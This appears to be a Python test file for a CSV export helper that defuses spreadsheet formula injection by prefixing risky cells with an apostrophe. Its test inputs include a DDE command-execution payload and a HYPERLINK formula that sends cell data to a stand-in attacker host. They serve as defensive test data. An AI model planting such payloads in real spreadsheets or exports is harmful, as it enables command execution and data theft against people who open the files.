"""CSV written for Excel: cells a spreadsheet would run as formulas are neutralised."""

from __future__ import annotations

import csv
import io

import pytest

from workflow.platform.spreadsheet import BOM, csv_lines, neutralise


def table(rows: list[dict]) -> list[dict[str, str]]:
    text = "".join(csv_lines(("name", "value"), rows))
    assert text.startswith(BOM)
    return list(csv.DictReader(io.StringIO(text[len(BOM) :])))


@pytest.mark.parametrize(
    "cell",
    [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+1+1",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_starting_like_a_formula_gets_a_leading_apostrophe(cell: str) -> None:
    assert neutralise(cell) == "'" + cell
    assert table([{"name": cell, "value": 1}]) == [{"name": "'" + cell, "value": "1"}]


@pytest.mark.parametrize(
    "cell", ["整改不充分", "risk1", "a=b", " plain", "'quoted", "", "2026-03-02"]
)
def test_ordinary_text_is_written_as_it_is(cell: str) -> None:
    assert neutralise(cell) == cell
    assert table([{"name": cell}]) == [{"name": cell, "value": ""}]


def test_numbers_are_not_text_and_stay_numbers() -> None:
    assert neutralise(-5) == -5 and neutralise(-0.5) == -0.5 and neutralise(None) is None
    assert table([{"name": "x", "value": -5}]) == [{"name": "x", "value": "-5"}]
